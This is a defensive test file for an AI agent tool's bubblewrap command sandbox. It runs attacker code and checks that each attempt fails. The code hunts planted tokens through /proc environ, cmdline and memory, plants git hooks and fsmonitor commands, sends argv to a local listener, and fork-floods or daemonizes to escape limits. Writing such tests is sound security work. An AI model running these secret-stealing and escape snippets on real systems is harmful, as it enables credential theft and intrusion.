/**
 * Attacks on the command sandbox (rule X7), run against the real bubblewrap sandbox with real
 * node, git and npm. Every attack is attacker code (a PR's test file, or a command an agent ran)
 * trying to recover the planted GitHub token and model key, read or write outside the checkout,
 * reach the network or outlive its time limit. Each must fail for the attacker.
 */
import { readdir, readFile } from "node:fs/promises";
import { existsSync, linkSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { allowUnsafeHostCommands, resetSandboxProbe, runSandboxed, SandboxUnavailableError } from "../../src/agents/sandbox/index.ts";
import { runTestCommand } from "../../src/testing/index.ts";
import { createToolbox } from "../../src/agents/tools/index.ts";
import { FAKE_KEY, FAKE_TOKEN, fromSecretParent, inSandbox, makeFixture, plantInThisProcess, SECRETS, type Fixture } from "./support/secrets.ts";

let fixture: Fixture;
let unplant: () => void;

function expectNoSecret(text: string): void {
  for (const secret of SECRETS) expect(text).not.toContain(secret);
}

/** Writes `code` as attack.js in the checkout and runs it in the sandbox. */
async function attack(code: string, options: { writable?: boolean; timeoutMs?: number } = {}) {
  writeFileSync(path.join(fixture.checkout, "attack.js"), code);
  return inSandbox(fixture.checkout, ["node", "attack.js"], options);
}

/** Node code that scans every /proc/<pid>/<file> it can see and prints what it read. */
const SCAN_PROC = (file: string) => `{
const fs = require("fs");
let seen = 0, out = "";
for (const pid of fs.readdirSync("/proc").filter((p) => /^\\d+$/.test(p))) {
  try { out += fs.readFileSync("/proc/" + pid + "/${file}", "latin1"); seen++; } catch (e) { out += "[" + pid + ":" + e.code + "]"; }
}
console.log("pids:", seen, out);
}`;

beforeAll(() => {
  unplant = plantInThisProcess();
  fixture = makeFixture({ "test/ok.test.js": "require('node:test')('ok', () => {});\n" });
});
afterAll(() => {
  unplant();
  fixture.cleanup();
});

describe("command sandbox: secrets", () => {
  it("X7 environment: the sandboxed program's own environment holds neither the token nor the key", async () => {
    const ran = await attack("console.log(JSON.stringify(process.env));");
    expect(ran.exitCode).toBe(0);
    expect(JSON.parse(ran.output)).toHaveProperty("PATH");
    expectNoSecret(ran.output);
  });

  it("X7 /proc/*/environ of every visible process holds no secret (only the sandbox's own processes are visible)", async () => {
    const ran = await attack(SCAN_PROC("environ"));
    expect(ran.output).toMatch(/pids: [1-9]/);
    expectNoSecret(ran.output);
  });

  it("X7 /proc/*/cmdline of every visible process holds no secret", async () => {
    const ran = await attack(SCAN_PROC("cmdline"));
    expectNoSecret(ran.output);
  });

  it("X7 walking the parent chain through /proc/<ppid> ends inside the sandbox, before any secret holder", async () => {
    const ran = await attack(`
const fs = require("fs");
let pid = process.pid, chain = [];
while (pid > 0) {
  const status = fs.readFileSync("/proc/" + pid + "/status", "utf8");
  chain.push(pid + ":" + fs.readFileSync("/proc/" + pid + "/cmdline", "latin1") + fs.readFileSync("/proc/" + pid + "/environ", "latin1"));
  pid = Number(/PPid:\\s+(\\d+)/.exec(status)[1]);
}
console.log(chain.length, chain.join("|"));
`);
    expect(ran.exitCode).toBe(0);
    expectNoSecret(ran.output);
  });

  it("X7 the Action's process numbers do not exist inside: /proc/<host pid>/environ of the test worker cannot be opened", async () => {
    const ran = await attack(`
const fs = require("fs");
for (const pid of [${process.pid}, ${process.ppid}]) {
  try { console.log(fs.readFileSync("/proc/" + pid + "/environ", "latin1")); } catch (e) { console.log(pid, e.code); }
}`);
    expectNoSecret(ran.output);
    expect(ran.output).toMatch(/ENOENT|EACCES|ESRCH/);
  });

  it("X7 /proc/<ancestor>/mem cannot be read for secrets", async () => {
    const ran = await attack(`
const fs = require("fs");
for (const pid of fs.readdirSync("/proc").filter((p) => /^\\d+$/.test(p))) {
  try {
    const maps = fs.readFileSync("/proc/" + pid + "/maps", "utf8").split("\\n").filter((l) => l.includes("[stack]") || l.includes("[heap]"));
    const fd = fs.openSync("/proc/" + pid + "/mem", "r");
    for (const line of maps) {
      const [start, end] = line.split(" ")[0].split("-").map((h) => parseInt(h, 16));
      const buffer = Buffer.alloc(Math.min(end - start, 1 << 20));
      try { fs.readSync(fd, buffer, 0, buffer.length, start); process.stdout.write(buffer.toString("latin1")); } catch (e) { console.log(e.code); }
    }
  } catch (e) { console.log(pid, e.code); }
}`);
    expectNoSecret(ran.output);
  });

  it("X7 a parent process started with the token and key in its environment and argv cannot be read from the sandbox", async () => {
    writeFileSync(
      path.join(fixture.checkout, "walk.js"),
      `${SCAN_PROC("environ")}\n${SCAN_PROC("cmdline")}\nconsole.log(JSON.stringify(process.env));`,
    );
    const ran = await fromSecretParent(fixture.checkout, "walk.js");
    expect(ran.exitCode).toBe(0);
    expect(ran.output).toContain("pids:");
    expectNoSecret(ran.output);
  });

  it("X7 .git/config as the sandbox sees it has no extraheader, no include of the runner's credential file, no remote URL", async () => {
    const ran = await inSandbox(fixture.checkout, ["cat", ".git/config"]);
    expect(ran.exitCode).toBe(0);
    expect(ran.output).toMatch(/repositoryformatversion/);
    expect(ran.output).not.toMatch(/extraheader|includeIf|remote|x-access-token/);
    expectNoSecret(ran.output);
    const listed = await inSandbox(fixture.checkout, ["git", "config", "--list", "--show-origin"]);
    expectNoSecret(listed.output);
  });

  it("X7 the runner's temp folder (with the included credential file) is not there", async () => {
    const ran = await attack(`
const fs = require("fs");
for (const file of [${JSON.stringify(fixture.secretFile)}, ${JSON.stringify(path.join(fixture.outside, "key.txt"))}]) {
  try { console.log(fs.readFileSync(file, "utf8")); } catch (e) { console.log(e.code); }
}
try { console.log(fs.readdirSync(${JSON.stringify(path.dirname(fixture.checkout))})); } catch (e) { console.log(e.code); }`);
    expectNoSecret(ran.output);
    expect(ran.output).toMatch(/ENOENT/);
  });

  it("X7 home directories, /root, /run, /sys and /etc secrets are not mounted", async () => {
    const ran = await attack(`
const fs = require("fs");
const report = {};
for (const p of ["/root", "/home", "/run", "/sys", "/etc/shadow", "/etc/gitconfig", "/etc/environment", "/var/run/docker.sock", ${JSON.stringify(process.env.HOME ?? "/root")}]) {
  report[p] = fs.existsSync(p) ? (fs.statSync(p).isDirectory() ? fs.readdirSync(p) : "FILE") : "absent";
}
console.log(JSON.stringify(report));`);
    const report = JSON.parse(ran.output) as Record<string, unknown>;
    for (const [where, what] of Object.entries(report)) {
      expect([`${where}: absent`, `${where}: []`]).toContain(`${where}: ${what === "absent" ? "absent" : JSON.stringify(what)}`);
    }
  });

  it("X7 GIT_* variables and a git config override planted in Quorum's environment do not reach git in the sandbox", async () => {
    const saved = { ...process.env };
    process.env.GIT_CONFIG_PARAMETERS = "'core.pager'='touch /tmp/pwned-pager'";
    process.env.GIT_DIR = fixture.outside;
    process.env.GIT_SSH_COMMAND = "touch /tmp/pwned";
    try {
      const ran = await inSandbox(fixture.checkout, ["git", "log", "--oneline"], { writable: false });
      expect(ran.exitCode).toBe(0);
      expect(ran.output).toContain("fixture");
      const env = await attack("console.log(Object.keys(process.env).join(','))");
      expect(env.output).not.toMatch(/GIT_CONFIG_PARAMETERS|GIT_DIR|GIT_SSH_COMMAND/);
    } finally {
      for (const name of ["GIT_CONFIG_PARAMETERS", "GIT_DIR", "GIT_SSH_COMMAND"]) {
        if (saved[name] === undefined) delete process.env[name];
      }
    }
  });

  it("X7 npm lifecycle scripts: `npm test` whose pretest and test scripts hunt for secrets finds none", async () => {
    writeFileSync(
      path.join(fixture.checkout, "package.json"),
      JSON.stringify({
        name: "evil",
        version: "1.0.0",
        scripts: { pretest: "node hunt.js", test: "node hunt.js && node --test" },
      }),
    );
    writeFileSync(
      path.join(fixture.checkout, "hunt.js"),
      `console.log = console.error;\n${SCAN_PROC("environ")}\n${SCAN_PROC("cmdline")}\nconsole.error(Object.keys(process.env).filter((k) => /TOKEN|KEY/.test(k)));`,
    );
    const runs = await runTestCommand({ cwd: fixture.checkout, command: "npm test", runs: 1, reporter: "auto" });
    expect(runs).toHaveLength(1);
    const everything = JSON.stringify(runs);
    expect(everything).toContain("pids:");
    expectNoSecret(everything);
  });
});

describe("command sandbox: files", () => {
  it("X7 writing outside the checkout does not reach the host", async () => {
    const target = path.join(fixture.outside, "planted.txt");
    const ran = await attack(`
const fs = require("fs");
for (const file of [${JSON.stringify(target)}, "/usr/planted", "/etc/planted"]) {
  try { fs.mkdirSync(require("path").dirname(file), { recursive: true }); fs.writeFileSync(file, "x"); console.log("wrote", file); } catch (e) { console.log(e.code); }
}`);
    expect(ran.exitCode).toBe(0);
    expect(existsSync(target)).toBe(false);
    expect(existsSync("/usr/planted")).toBe(false);
  });

  it("X7 an agent without a worktree cannot change the checkout: it is mounted read-only", async () => {
    const ran = await attack(`try { require("fs").writeFileSync("changed.txt", "x"); console.log("wrote"); } catch (e) { console.log(e.code); }`, { writable: false });
    expect(ran.output.trim()).toBe("EROFS");
    expect(existsSync(path.join(fixture.checkout, "changed.txt"))).toBe(false);
  });

  it("X7 .git stays read-only in a writable checkout: no hook or config can be planted for later git runs", async () => {
    const ran = await attack(`
const fs = require("fs");
for (const [file, text] of [[".git/hooks/post-checkout", "#!/bin/sh\\ntouch /tmp/pwned"], [".git/config", "[core]\\n\\tfsmonitor = touch /tmp/pwned"], [".git/info/attributes", "* diff=evil"]]) {
  try { fs.writeFileSync(file, text); console.log("wrote", file); } catch (e) { console.log(e.code); }
}`);
    expect(ran.output).not.toMatch(/wrote/);
    expect(existsSync(path.join(fixture.checkout, ".git/hooks/post-checkout"))).toBe(false);
    expect(await readFile(path.join(fixture.checkout, ".git/config"), "utf8")).not.toContain("fsmonitor");
  });

  it("X7 a symlink committed in the checkout that points at a runner secret leads nowhere inside", async () => {
    symlinkSync(fixture.secretFile, path.join(fixture.checkout, "innocent.txt"));
    const ran = await inSandbox(fixture.checkout, ["cat", "innocent.txt"]);
    expect(ran.exitCode).not.toBe(0);
    expectNoSecret(ran.output);
  });

  it("X7 a hard link to a file outside the checkout cannot be made from inside", async () => {
    const ran = await attack(`
const fs = require("fs");
for (const source of [${JSON.stringify(fixture.secretFile)}, "/etc/passwd"]) {
  try { fs.linkSync(source, "stolen-" + require("path").basename(source)); console.log("linked", source); } catch (e) { console.log(e.code); }
}`);
    expect(ran.output).not.toMatch(/linked/);
    expect(existsSync(path.join(fixture.checkout, "stolen-git-credentials.config"))).toBe(false);
  });

  it("X7 a hard link planted before the run (outside the sandbox's reach) is the only way in, and the read tool still sees only the checkout's own file", async () => {
    // A hard link is the same file: it can only be made by someone who could already read it.
    // Inside the checkout the agent reads it like any file; nothing outside is exposed by it.
    linkSync(path.join(fixture.checkout, "README.md"), path.join(fixture.checkout, "readme-link.md"));
    const toolbox = createToolbox({ root: fixture.checkout, tools: ["read"], isolation: "none", runAllowlist: [] });
    const result = await toolbox.call("read", { path: "readme-link.md" }, new AbortController().signal);
    expect(result.content).toContain("fixture");
  });
});

describe("command sandbox: network", () => {
  let server: Server;
  let port = 0;
  let connections = 0;
  beforeAll(async () => {
    server = createServer((socket) => {
      connections += 1;
      socket.end();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const address = server.address();
    port = typeof address === "object" && address ? address.port : 0;
  });
  afterAll(async () => {
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  it("X7 exfiltration to a listener on the host's 127.0.0.1 fails: the sandbox has no network", async () => {
    const ran = await attack(`
const net = require("net");
const socket = net.connect(${port}, "127.0.0.1", () => { socket.write(process.argv.join(" ")); console.log("connected"); socket.end(); });
socket.on("error", (e) => console.log("error", e.code));`);
    expect(ran.output).toMatch(/error (ECONNREFUSED|ENETUNREACH|EHOSTUNREACH)/);
    expect(connections).toBe(0);
  });

  it("X7 name resolution and outside addresses are unreachable too", async () => {
    const ran = await attack(`
const net = require("net");
const dns = require("dns");
dns.lookup("github.com", (e, a) => console.log("dns", e ? e.code : a));
const s = net.connect(443, "140.82.112.3"); s.on("connect", () => console.log("connected")); s.on("error", (e) => console.log("tcp", e.code));
s.setTimeout(5000, () => { console.log("tcp timeout"); s.destroy(); });`);
    expect(ran.output).not.toMatch(/connected|dns \d/);
  });

  it("X7 the network interfaces inside are only a down or loopback device", async () => {
    const ran = await attack("console.log(JSON.stringify(Object.keys(require('os').networkInterfaces())))");
    expect(JSON.parse(ran.output)).toEqual(expect.arrayContaining([]));
    expect(JSON.parse(ran.output) as string[]).not.toContain("eth0");
  });
});

describe("command sandbox: limits", () => {
  it("X7 a program that daemonizes (new session, double fork) is still killed at the time limit", async () => {
    const marker = `quorum-daemon-${process.pid}`;
    const ran = await attack(
      `
const { spawn } = require("child_process");
spawn("setsid", ["sleep", "120", "${marker}"], { detached: true, stdio: "ignore" }).unref();
spawn(process.execPath, ["-e", "setTimeout(()=>{},120000)", "${marker}"], { detached: true, stdio: "ignore" }).unref();
setTimeout(() => {}, 120000);`,
      { timeoutMs: 3000 },
    );
    expect(ran.timedOut).toBe(true);
    expect(await processesWith(marker, 5000)).toBe(0);
  });

  it("X7 a fork flood ends with the sandbox and leaves no process behind", async () => {
    // A valid duration (GNU sleep refuses a word: each child would exit at once) that names this test.
    const marker = `119.${process.pid}0707`;
    const ran = await attack(
      `
const { spawn } = require("child_process");
let n = 0;
function more() { for (let i = 0; i < 20 && n < 400; i++, n++) { try { spawn("sleep", ["${marker}"], { stdio: "ignore" }).on("error", () => {}); } catch {} } if (n < 400) setTimeout(more, 10); }
more();`,
      { timeoutMs: 4000 },
    );
    expect(ran.timedOut).toBe(true);
    expect(await processesWith(marker, 5000)).toBe(0);
  });

  it("X7 an output flood is cut by the caller's cap and killed at the time limit", async () => {
    const toolbox = createToolbox({
      root: fixture.checkout,
      tools: ["run"],
      isolation: "none",
      runAllowlist: ["node flood.js"],
      outputCapBytes: 4096,
      runTimeoutMs: 3000,
    });
    writeFileSync(path.join(fixture.checkout, "flood.js"), "const b = 'x'.repeat(65536); for (;;) process.stdout.write(b);");
    const result = await toolbox.call("run", { command: "node flood.js" }, new AbortController().signal);
    expect(result.isError).toBe(true);
    expect(result.content).toMatch(/killed: time limit/);
    expect(result.content.length).toBeLessThan(8000);
  });

  it("X7 memory is limited per process: a 6 GiB allocation fails inside the sandbox", async () => {
    const ran = await attack("try { const b = Buffer.alloc(6 * 1024 ** 3, 1); console.log('allocated', b.length); } catch (e) { console.log('refused', e.code || e.message); }");
    expect(ran.output).not.toMatch(/allocated/);
  });
});

describe("command sandbox: availability", () => {
  it("X7 on GitHub, without a usable bubblewrap, every command is refused with a clear message (no opt-in exists)", async () => {
    const saved = { bwrap: process.env.QUORUM_BWRAP, actions: process.env.GITHUB_ACTIONS };
    process.env.QUORUM_BWRAP = "/nonexistent/bwrap";
    process.env.GITHUB_ACTIONS = "true";
    allowUnsafeHostCommands(true, () => undefined);
    resetSandboxProbe();
    try {
      const run = runSandboxed({ argv: ["true"], cwd: fixture.checkout, readOnly: [fixture.checkout], timeoutMs: 5000, onStdout: () => undefined, onStderr: () => undefined, startError: (f) => new Error(f) });
      await expect(run).rejects.toThrow(SandboxUnavailableError);
      await expect(run).rejects.toThrow(/On GitHub, commands from agents and test runs run only inside the sandbox.*apt-get install -y bubblewrap/);
    } finally {
      allowUnsafeHostCommands(false);
      restore("QUORUM_BWRAP", saved.bwrap);
      restore("GITHUB_ACTIONS", saved.actions);
      resetSandboxProbe();
    }
  });

  it("X7 on the CLI, without bubblewrap, commands are refused unless the user opted in; the opt-in warns once", async () => {
    const saved = { bwrap: process.env.QUORUM_BWRAP, actions: process.env.GITHUB_ACTIONS };
    process.env.QUORUM_BWRAP = "/nonexistent/bwrap";
    delete process.env.GITHUB_ACTIONS;
    resetSandboxProbe();
    const warnings: string[] = [];
    const start = () =>
      runSandboxed({ argv: ["true"], cwd: fixture.checkout, readOnly: [fixture.checkout], timeoutMs: 5000, onStdout: () => undefined, onStderr: () => undefined, startError: (f) => new Error(f) });
    try {
      allowUnsafeHostCommands(false);
      await expect(start()).rejects.toThrow(/--unsafe-host-commands/);
      allowUnsafeHostCommands(true, (message) => warnings.push(message));
      expect((await start()).exitCode).toBe(0);
      expect((await start()).exitCode).toBe(0);
      expect(warnings).toHaveLength(1);
      expect(warnings[0]).toMatch(/WITHOUT a sandbox/);
    } finally {
      allowUnsafeHostCommands(false);
      restore("QUORUM_BWRAP", saved.bwrap);
      restore("GITHUB_ACTIONS", saved.actions);
      resetSandboxProbe();
    }
  });
});

function restore(name: string, value: string | undefined): void {
  if (value === undefined) delete process.env[name];
  else process.env[name] = value;
}

/** How many live host processes carry `marker` after waiting up to `timeoutMs` for them to go. */
async function processesWith(marker: string, timeoutMs: number): Promise<number> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    let count = 0;
    for (const entry of await readdir("/proc")) {
      if (!/^\d+$/.test(entry)) continue;
      const cmdline = await readFile(`/proc/${entry}/cmdline`, "utf8").catch(() => "");
      const status = await readFile(`/proc/${entry}/status`, "utf8").catch(() => "");
      if (cmdline.includes(marker) && status !== "" && !/^State:\s+Z/m.test(status)) count += 1;
    }
    if (count === 0 || Date.now() > deadline) return count;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

// The fake secrets must be in this process, or the tests above prove nothing.
it("X7 the planted secrets are really present in the test process (control)", () => {
  expect(process.env["INPUT_GITHUB-TOKEN"]).toBe(FAKE_TOKEN);
  expect(process.env["INPUT_ANTHROPIC-API-KEY"]).toBe(FAKE_KEY);
  expect(process.argv.join(" ")).toContain(FAKE_TOKEN);
});
